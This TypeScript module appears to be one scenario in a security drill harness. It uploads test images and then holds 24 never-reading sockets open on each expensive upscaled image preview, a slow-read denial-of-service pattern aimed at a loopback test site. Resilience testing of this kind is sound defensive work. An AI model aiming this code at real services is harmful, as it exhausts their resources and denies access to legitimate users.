import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "./attack-run.ts";
import { previewPath, uploadPicture } from "./previews.ts";
import { send } from "./send.ts";

const READERS = 24;
const ATTACKER = "127.0.0.31";
const RENDERED_WITHIN_MS = 20_000;
const HELD_MS = 6_000;

const SMALL = "drill-small";
const LARGE = "drill-large";
const PREVIEWS = {
  "64x64 as 4000x4000": previewPath(SMALL, { width: 4000, height: 4000, output: "png" }),
  "64x64 as 1400x1400": previewPath(SMALL, { width: 1400, height: 1400, output: "png" }),
  "3000x3000 as it is": previewPath(LARGE, { output: "png" }),
};

export const slowReaders: Attack = {
  name: `${READERS} slow readers of each large preview`,
  async prepare(target) {
    await uploadPicture(target, SMALL, 64);
    await uploadPicture(target, LARGE, 3000);
  },
  async run({ site: { origin } }) {
    const table: Record<string, { status: number | null; readers: number }> = {};
    const readers: Socket[] = [];
    for (const [name, path] of Object.entries(PREVIEWS)) {
      const { status } = await send({ origin, path, from: ATTACKER, timeOutMs: RENDERED_WITHIN_MS });
      const isRead = status === 200;
      if (isRead) for (let reader = 0; reader < READERS; reader++) readers.push(neverRead(origin, path));
      table[name] = { status, readers: isRead ? READERS : 0 };
    }
    await pause(HELD_MS);
    for (const reader of readers) reader.destroy();
    return { tables: { "What they read": table }, promised: [] };
  },
};

function neverRead(origin: string, path: string): Socket {
  const { hostname, port } = new URL(origin);
  const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER });
  socket.on("error", () => undefined).pause();
  socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
  return socket;
}
